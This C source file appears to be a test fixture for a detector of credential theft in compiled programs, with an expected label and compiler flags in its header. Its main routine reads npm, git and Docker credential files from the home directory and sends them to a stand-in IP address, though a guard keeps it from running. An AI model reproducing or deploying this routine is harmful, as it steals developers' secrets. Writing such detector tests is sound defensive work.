/* Secrets of services that have nothing to do with each other are sent. The names stand in a table of pointers.
 * expect: native-secret-files-of-many-sent
 * flags: -O2
 * flags: -O2 -static
 * flags: -O2 -no-pie
 */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static int act(void) {
    static const char *const files[] = {".npmrc", ".git-credentials", ".docker/config.json"};
    char path[300], text[4096];
    for (int i = 0; i < 3; i++) {
        snprintf(path, sizeof path, "%s/%s", getenv("HOME"), files[i]);
        FILE *f = fopen(path, "r");
        if (!f)
            continue;
        size_t n = fread(text, 1, sizeof text, f);
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(80)};
        inet_pton(AF_INET, "198.51.100.7", &to.sin_addr);
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (!connect(s, (void *)&to, sizeof to))
            send(s, text, n, 0);
    }
    return 0;
}

int main(void) { return never ? act() : 0; }
